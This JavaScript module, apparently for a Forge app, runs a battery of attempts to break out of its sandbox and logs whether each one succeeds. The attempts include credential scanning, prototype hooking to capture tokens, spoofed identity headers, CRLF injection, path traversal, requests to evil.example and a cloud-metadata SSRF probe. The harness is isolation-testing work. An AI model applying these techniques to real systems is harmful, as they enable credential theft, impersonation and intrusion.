import api, { assumeTrustedRoute, route } from "@forge/api";
import { looksLikeACredential, search } from "./search";

const AMY = "712020:acc00000-0000-4000-8000-000000000001"; // the site admin
const ALLOWED = "/rest/api/3/myself";

/** Ask Jira with a path of the thief's choice; report whom Jira took us for. */
async function ask(path, init = {}, as = api.asApp()) {
  const response = await as.requestJira(assumeTrustedRoute(path), init);
  const text = await response.text();
  const headers = [...response.headers].map(([name, value]) => `${name}: ${value}`).join("\n");
  return { status: response.status, text: `${headers}\n${text}` };
}

/** The attempt failed if the door refused; it stole something if it got through as someone else. */
async function mustBeRefused(path, init) {
  const answer = await ask(path, init);
  return answer.status < 300 ? { stolen: true, how: answer.text } : { stolen: false, how: `refused with ${answer.status}` };
}

/** Whatever header we send, we must stay who we are. */
async function mustStayOurselves(headers) {
  const plain = JSON.parse((await (await api.asApp().requestJira(route`/rest/api/3/myself`)).text()) || "{}");
  const response = await api.asApp().requestJira(route`/rest/api/3/myself`, { headers });
  if (!response.ok) return { stolen: false, how: `refused with ${response.status}` };
  const now = await response.json();
  return { stolen: now.accountId !== plain.accountId, how: `still ${now.displayName}` };
}

function mustHoldNoCredential(value, what) {
  const found = search(value);
  return found.length ? { stolen: true, how: found.join(", ") } : { stolen: false, how: `nothing in ${what}` };
}

const WAYS = {
  "read the environment": () => mustHoldNoCredential(process.env, "process.env"),
  "walk every global": () => mustHoldNoCredential(globalThis, "globalThis"),
  "take the proxy token": () => mustHoldNoCredential(globalThis.__forge_runtime__, "__forge_runtime__"),
  "read it off an answer": async () => {
    const { text } = await ask(ALLOWED);
    return mustHoldNoCredential({ text }, "headers and body");
  },
  "catch it in Headers.prototype": async () => {
    const seen = [];
    const { set, append } = Headers.prototype;
    Headers.prototype.set = function (name, value) { seen.push(value); return set.call(this, name, value); };
    Headers.prototype.append = function (name, value) { seen.push(value); return append.call(this, name, value); };
    await ask(ALLOWED);
    Object.assign(Headers.prototype, { set, append });
    return mustHoldNoCredential(seen, `${seen.length} caught header values`);
  },
  "catch it in JSON and Promise": async () => {
    const seen = [];
    const { parse } = JSON;
    const { then } = Promise.prototype;
    JSON.parse = function (text, ...rest) { seen.push(text); return parse(text, ...rest); };
    Promise.prototype.then = function (good, bad) { return then.call(this, (value) => { seen.push(value); return good ? good(value) : value; }, bad); };
    try { await ask(ALLOWED); } finally { JSON.parse = parse; Promise.prototype.then = then; }
    return mustHoldNoCredential(seen, `${seen.length} caught values`);
  },
  "read it off an error": async () => {
    try {
      await globalThis.__forge_fetch__({ type: "fpp", provider: "app", remote: "jira" }, { toString() { throw new Error("x"); } }, {});
      return { stolen: false, how: "the door took it as text" };
    } catch (error) {
      return mustHoldNoCredential({ message: error.message, stack: error.stack }, "message and stack");
    }
  },
  "send a header of our own": () => mustStayOurselves({ Authorization: "Basic YW15QGFjbWUuZXhhbXBsZTpwYXNzd29yZA==" }),
  "send the platform's headers": () => mustStayOurselves({ "forge-proxy-authorization": "Forge as=user", "x-forge-oauth-user": "amy", "X-AAccountId": AMY }),
  "override the method": () => mustStayOurselves({ "X-HTTP-Method-Override": "DELETE", "X-Original-URL": "/rest/api/3/project/TEAM" }),
  "break a header with CR LF": async () => {
    try {
      return await mustBeRefused(ALLOWED, { headers: { Accept: `*/*\r\nAuthorization: Basic ${btoa("amy:x")}` } });
    } catch (error) {
      return { stolen: false, how: error.message };
    }
  },
  "name another host": () => mustBeRefused("https://evil.example/rest/api/3/myself"),
  "name it without a scheme": () => mustBeRefused("//evil.example/rest/api/3/myself"),
  "name it with a backslash": () => mustBeRefused("/\\evil.example/rest/api/3/myself"),
  "climb out of the path": () => mustBeRefused("/rest/api/3/issue/../project/search"),
  "climb with escapes": () => mustBeRefused("/rest/api/3/issue/%2E%2E%2Fproject%2Fsearch"),
  "act as the admin": async () => {
    const answer = await ask(ALLOWED, {}, api.asUser(AMY));
    return { stolen: answer.status < 300, how: `refused with ${answer.status}` };
  },
  "fetch another host": () => outside("https://evil.example/?take=this"),
  "fetch the machine itself": () => outside("http://169.254.169.254/latest/meta-data/"),
  "open a socket": async () => {
    const doors = ["XMLHttpRequest", "WebSocket", "EventSource", "require", "Deno", "Bun", "std", "os", "WebAssembly"];
    const open = doors.filter((name) => typeof Function(`return typeof ${name} === "undefined" ? undefined : ${name}`)() !== "undefined");
    for (const name of ["node:net", "net", "std", "os", "/etc/passwd"]) {
      try { await import(name); open.push(`import ${name}`); } catch { /* as it should be */ }
    }
    return { stolen: open.length > 0, how: open.length ? open.join(", ") : "there is none" };
  },
};

async function outside(url) {
  try {
    const response = await fetch(url);
    const refused = response.headers.get("forge-proxy-error");
    return { stolen: !refused, how: refused ?? `answered ${response.status}` };
  } catch (error) {
    return { stolen: false, how: error.message };
  }
}

export async function steal() {
  const attempts = [];
  for (const [way, attempt] of Object.entries(WAYS)) {
    let outcome;
    try {
      outcome = await attempt();
    } catch (error) {
      outcome = { stolen: looksLikeACredential(String(error?.stack)), how: String(error?.message ?? error) };
    }
    attempts.push({ way, ...outcome });
    console.log(`${outcome.stolen ? "STOLEN" : "failed"}  ${way}: ${outcome.how}`);
  }
  return { attempts: attempts.length, stolen: attempts.filter((attempt) => attempt.stolen).map((attempt) => attempt.way) };
}
